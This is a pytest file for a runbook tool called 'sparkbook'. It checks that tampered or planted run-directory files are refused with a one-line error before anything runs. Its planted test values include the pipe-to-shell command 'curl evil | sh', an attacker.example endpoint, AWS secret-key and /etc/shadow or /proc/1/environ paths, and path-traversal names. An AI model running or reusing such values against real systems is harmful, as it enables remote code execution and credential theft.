"""Issue 56, part two: a run dir is input anyone who can write it may have planted. What the runbook acts on from it
(the restore plan, the manifest's parameters and notebook names, the hand-offs in state.json) is acted on only where
this controller's runbook sealed it and it stays within its schema; anything else ends in one line naming the file
and exit 2, with nothing run and no node contacted."""
from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from restoring import local_params, restorable_run

from sparkbook import cli
from sparkbook.cli import exits
from sparkbook.core.values import seal, state
from sparkbook.core.values.handoff import Endpoint, ImageChoice
from sparkbook.runbook import driver, lock
from sparkbook.runbook.manifest import Manifest, NotebookRun
from sparkbook.stages.cleanup import restore

IMAGE = "example/vllm:0.17"  # conftest's candidate
RUN = "20261203T000000Z"


def _one_line(err: str, *names: str) -> str:
    """stderr is one line, no traceback, naming each of `names`."""
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert all(n in err for n in names), err
    return err


@pytest.fixture
def untouched(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What was acted on: any connection to a node, lock taken or restore step is recorded (none is expected)."""
    acted: list[str] = []

    def connect(*args: Any, **kwargs: Any) -> None:
        acted.append("node")
        raise AssertionError("a node was contacted")

    monkeypatch.setattr(driver, "Cluster", connect)
    monkeypatch.setattr(lock, "acquire", connect)
    monkeypatch.setattr(restore, "restore_deployment", lambda *a: acted.append("restore") or iter([]))
    return acted


@pytest.fixture
def local(base: dict[str, Any], write_params: Callable[..., Path], tmp_path: Path) -> Path:
    return local_params(base, write_params, tmp_path)


# --- the restore plan -------------------------------------------------------------------------------------------
def test_a_restore_string_planted_in_the_plan_is_never_run(local: Path, tmp_path: Path, untouched: list[str],
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = restorable_run(tmp_path, local)
    plan = run_dir / "restore-plan.json"
    plan.write_text(plan.read_text().replace('"restore": "true"', '"restore": "curl evil | sh"'))
    assert cli.main(["restore", str(run_dir)]) == exits.EXIT_INVALID
    _one_line(capsys.readouterr().err, str(plan), "not sealed")
    assert untouched == [], "nothing restored, no node contacted"


def test_a_plan_with_no_seal_at_all_is_refused(local: Path, tmp_path: Path, untouched: list[str],
                                               capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = restorable_run(tmp_path, local)
    seal.sig_file(run_dir / "restore-plan.json").unlink()
    assert cli.main(["restore", str(run_dir)]) == exits.EXIT_INVALID
    _one_line(capsys.readouterr().err, "restore-plan.json", "no restore-plan.json.sig")
    assert untouched == []


def test_a_sealed_plan_naming_a_node_the_params_lack_restores_nothing(local: Path, tmp_path: Path,
                                                                       untouched: list[str],
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = restorable_run(tmp_path, local)
    plan = run_dir / "restore-plan.json"
    seal.write(plan, plan.read_text().replace('"node": "a"', '"node": "elsewhere"'))
    assert cli.main(["restore", str(run_dir)]) == exits.EXIT_INVALID
    _one_line(capsys.readouterr().err, "restore-plan.json", "elsewhere", "nothing was restored")
    assert untouched == []


def test_a_torn_events_file_ends_restore_in_one_line(local: Path, tmp_path: Path, untouched: list[str],
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = restorable_run(tmp_path, local)
    (run_dir / "restore-plan.json").unlink()  # restore then reads the events for 01's plan
    (run_dir / "events.jsonl").write_text('{"at": "t", "stage": "01-cleanup", "kind": "cleanup_plan", "da')
    assert cli.main(["restore", str(run_dir)]) == exits.EXIT_INVALID
    _one_line(capsys.readouterr().err, "events.jsonl:1", "not an event")
    assert untouched == []


# --- --resume and the manifest ----------------------------------------------------------------------------------
def _resumable(local: Path, tmp_path: Path, parameters: dict[str, Any], names: list[str]) -> Path:
    run_dir = tmp_path / "outputs" / "unit" / RUN
    run_dir.mkdir(parents=True)
    Manifest("unit", RUN, str(local), parameters, "t",
             notebooks=[NotebookRun(n, "failed" if i == 0 else "pending") for i, n in enumerate(names)]).write(run_dir)
    return run_dir


@pytest.mark.parametrize("reserved", [{"run_dir": "/etc"}, {"params_file": "/tmp/other.yaml"},
                                      {"ab_arm": "baseline"}])
def test_a_manifest_that_sets_the_drivers_own_parameters_is_refused_on_resume(
        reserved: dict[str, str], local: Path, tmp_path: Path, untouched: list[str],
        capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = _resumable(local, tmp_path, reserved, ["01-cleanup.ipynb"])  # sealed: even the runbook's own
    assert cli.main(["run", str(local), "--resume", str(run_dir)]) == exits.EXIT_INVALID
    _one_line(capsys.readouterr().err, f"-p {next(iter(reserved))}: set by the driver itself")
    assert untouched == []


def test_a_manifest_edited_after_the_run_is_refused_on_resume(local: Path, tmp_path: Path, untouched: list[str],
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = _resumable(local, tmp_path, {}, ["01-cleanup.ipynb"])
    path = run_dir / "manifest.json"
    path.write_text(path.read_text().replace('"parameters": {}', '"parameters": {"confirm_cleanup": true}'))
    assert cli.main(["run", str(local), "--resume", str(run_dir)]) == exits.EXIT_INVALID
    _one_line(capsys.readouterr().err, str(path), "not sealed")
    assert untouched == []


@pytest.mark.parametrize("name", ["../../x.ipynb", "/tmp/x.ipynb", "05-serve.ab-evil.ipynb",
                                  "01-cleanup.ab-baseline.ipynb"])
def test_a_notebook_name_outside_the_stage_list_is_never_executed(name: str, local: Path, tmp_path: Path,
                                                                  untouched: list[str],
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = _resumable(local, tmp_path, {}, [name, "02-diagnosis.ipynb"])
    assert cli.main(["run", str(local), "--resume", str(run_dir)]) == exits.EXIT_INVALID
    _one_line(capsys.readouterr().err, "manifest.json", "not the runbook's", repr(name))
    assert untouched == []


def test_a_manifest_of_another_cluster_is_refused_on_resume(local: Path, tmp_path: Path, untouched: list[str],
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = _resumable(local, tmp_path, {}, ["01-cleanup.ipynb"])
    m = Manifest.read(run_dir)
    m.cluster = "prod"
    m.write(run_dir)
    assert cli.main(["run", str(local), "--resume", str(run_dir)]) == exits.EXIT_INVALID
    _one_line(capsys.readouterr().err, "'prod'")
    assert untouched == []


def test_the_arms_own_names_are_the_runbooks() -> None:
    from sparkbook.runbook import arms

    names = driver.notebook_names()
    assert all(arms.known(n, names) for n in names)
    assert arms.known("05-serve.ab-baseline.ipynb", names) and arms.known("06-benchmark.ab-kept.ipynb", names)


def test_a_parameter_value_that_is_not_yaml_is_refused_without_a_traceback(
        local: Path, untouched: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    for bad, said in (("confirm_cleanup=[unclosed", "-p confirm_cleanup: the value is not YAML"),
                      ("no-equals-sign", "expected NAME=VALUE")):
        assert cli.main(["run", str(local), "-p", bad]) == exits.EXIT_INVALID
        err = capsys.readouterr().err
        assert said in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert untouched == []


# --- state.json's hand-offs, as the operator commands read them ---------------------------------------------------
def _deployed(outputs: Path, run_id: str = RUN, **endpoint: Any) -> Path:
    """A run of cluster `unit` whose 05 ended ok, sealed as the runbook writes it, its endpoint changed by
    `endpoint` (written by the runbook too: the bounds, not the seal, refuse it)."""
    run_dir = outputs / "unit" / run_id
    run_dir.mkdir(parents=True)
    Manifest("unit", run_id, "/p.yaml", {}, "t", status="ok",
             notebooks=[NotebookRun("05-serve.ipynb", "ok")]).write(run_dir)
    state.store(run_dir, ImageChoice(ref=endpoint.pop("image", IMAGE), id="sha256:1", vllm_version="0.25.0",
                                     ray_version=None, nodes={}), lambda x: x)
    state.store(run_dir, Endpoint(**{"base_url": "http://10.9.0.1:8000/v1", "model": "m", "executor": "mp",
                                     "commands": {"a": ["vllm", "serve"]}, "env": {},
                                     "logs": {"a": "/tmp/sparkbook/logs/serve-1.log"}, "ready_s": 1.0,
                                     "attempts": 1, "reused": False, **endpoint}), lambda x: x)
    return run_dir


@pytest.mark.parametrize("planted, said", [
    ({"api_key_env": "AWS_SECRET_ACCESS_KEY"}, "endpoint.api_key_env 'AWS_SECRET_ACCESS_KEY' is not among"),
    ({"base_url": "http://attacker.example:80/v1"}, "endpoint.base_url: 'http://attacker.example:80/v1'"),
    ({"replicas": {"a": "http://203.0.113.9:8001"}}, "endpoint.replicas.a"),
    ({"image": "evil/vllm:latest"}, "image.ref 'evil/vllm:latest' is none of the params' candidate images"),
    ({"logs": {"a": "/proc/1/environ"}}, "endpoint.logs.a: '/proc/1/environ' is outside"),
    ({"logs": {"a": "/tmp/sparkbook/logs/../../../etc/shadow"}}, "is outside"),
    ({"router_log": "../../elsewhere.log"}, "endpoint.router_log"),
    ({"commands": {"intruder": ["vllm"]}}, "node 'intruder' is not a node of the params"),
])
@pytest.mark.parametrize("command", [["status"], ["stop"], ["logs"], ["up"]])
def test_a_hand_off_beyond_the_params_is_refused_by_every_operator_command(
        planted: dict[str, Any], said: str, command: list[str], local: Path, tmp_path: Path, untouched: list[str],
        capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = _deployed(tmp_path / "outputs", **planted)
    assert cli.main([*command, str(local), "--outputs", str(tmp_path / "outputs")]) == exits.EXIT_INVALID
    _one_line(capsys.readouterr().err, str(run_dir / "state.json"), said, "nothing was acted on")
    assert untouched == []


def test_an_endpoint_within_the_params_is_acted_on(local: Path, tmp_path: Path) -> None:
    """The same record unplanted passes the bounds (the refusals above are the planted values' alone)."""
    from sparkbook.core.values.params import load_params
    from sparkbook.runbook import operate

    _deployed(tmp_path / "outputs", api_key_env="SPARKBOOK_TEST_TOKEN", router_log="logs/router.log")
    d = operate.last_good(load_params(local), tmp_path / "outputs")
    assert d.run_id == RUN and d.endpoint.api_key_env == "SPARKBOOK_TEST_TOKEN"


@pytest.mark.parametrize("tamper", ["torn", "planted"])
def test_a_torn_newest_state_never_falls_back_to_the_deployment_before_it(
        tamper: str, local: Path, tmp_path: Path, untouched: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    _deployed(tmp_path / "outputs", "20261202T000000Z")
    newest = _deployed(tmp_path / "outputs")
    path = newest / "state.json"
    text = path.read_text()
    path.write_text(text[:len(text) // 2] if tamper == "torn" else text.replace("10.9.0.1", "10.9.0.2"))
    assert cli.main(["status", str(local), "--outputs", str(tmp_path / "outputs")]) == exits.EXIT_INVALID
    err = _one_line(capsys.readouterr().err, str(path), "not sealed")
    assert "20261202T000000Z" not in err and untouched == []


def test_a_rollback_event_naming_a_path_is_not_followed(local: Path, tmp_path: Path) -> None:
    from sparkbook.runbook import operate

    run_dir = tmp_path / "outputs" / "unit" / RUN
    run_dir.mkdir(parents=True)
    (run_dir / "events.jsonl").write_text(json.dumps({"at": "t", "stage": "05-serve", "kind": "serve_rollback",
                                                      "data": {"ok": True, "rolled_back_to_run": "../../etc"}}))
    assert operate.rolled_back_to(run_dir) is None


def test_the_seal_of_a_planted_state_is_not_renewed_by_the_end_of_run_scrub(tmp_path: Path) -> None:
    """The driver's last pass rewrites what it redacts; it seals again only what was sealed before, so a planted
    state.json does not come out of a run vouched for."""
    from sparkbook.core.values.redact import Redactor

    run_dir = _deployed(tmp_path / "outputs")
    path = run_dir / "state.json"
    path.write_text(path.read_text().replace('"model": "m"', f'"model": "{run_dir}/evil"'))  # planted; a path to rewrite
    driver._scrub(run_dir, Redactor())
    assert '"model": "evil"' in path.read_text() and seal.problem(path) is not None, "rewritten, left unsealed"
    good = _deployed(tmp_path / "again", model=f"{tmp_path / 'again' / 'unit' / RUN}/m")
    driver._scrub(good, Redactor())
    assert '"model": "m"' in (good / "state.json").read_text()
    assert seal.problem(good / "state.json") is None, "the runbook's own is sealed again"


# --- the key ---------------------------------------------------------------------------------------------------
def test_a_key_others_can_read_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    seal.write(tmp_path / "f.json", "{}")
    key = seal.key_file()
    assert key.stat().st_mode & 0o777 == 0o600 and key.parent.stat().st_mode & 0o777 == 0o700
    key.chmod(0o644)
    with pytest.raises(seal.SealError, match="readable by group/others"):
        seal.read(tmp_path / "f.json")


def test_a_file_sealed_under_another_key_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A run dir copied from another controller (or written by another user) is not this runbook's."""
    path = seal.write(tmp_path / "state.json", "{}")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "other"))
    with pytest.raises(seal.SealError, match="its seal does not match"):
        seal.read(path)


# --- records read back for display --------------------------------------------------------------------------------
def test_compare_of_a_run_whose_params_copy_is_not_yaml_is_one_line_and_exit_2(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from rundirs import make_run

    lab = tmp_path / "lab"
    a = make_run(lab, "20261201T100000Z")
    make_run(lab, "20261201T110000Z", params_yaml="cluster: [lab\n  serve: {")
    assert cli.main(["compare", a.name, "20261201T110000Z", "--outputs", str(tmp_path)]) == exits.EXIT_INVALID
    _one_line(capsys.readouterr().err, "20261201T110000Z/params.yaml: not YAML")


def test_a_duration_that_is_not_a_number_is_said_on_the_page_not_a_traceback(tmp_path: Path) -> None:
    from rundirs import make_run

    run_dir = make_run(tmp_path / "lab", "20261201T100000Z")
    m = json.loads((run_dir / "manifest.json").read_text())
    m["notebooks"][0]["duration_s"] = "a while"
    (run_dir / "manifest.json").write_text(json.dumps(m))
    page = driver.write_index(run_dir, Manifest.read(run_dir, sealed=False)).read_text()
    assert "a while (not a number" in page
    assert not list(run_dir.glob(".index.html.*")), "written whole: no temporary file left"


def test_a_malformed_restore_outcome_event_is_said_on_the_page(tmp_path: Path) -> None:
    from rundirs import make_run

    from sparkbook.records.restore_section import restore_section

    run_dir = make_run(tmp_path / "lab", "20261201T100000Z", events=[
        {"at": "t1", "stage": "restore", "kind": "restore_outcome", "data": {"result": "restored"}},
        {"at": "t2", "stage": "restore", "kind": "restore_outcome", "data": "not an outcome"}])
    section = restore_section(run_dir)
    assert section.count("is not one sparkbook writes: not shown") == 2 and "t2" in section
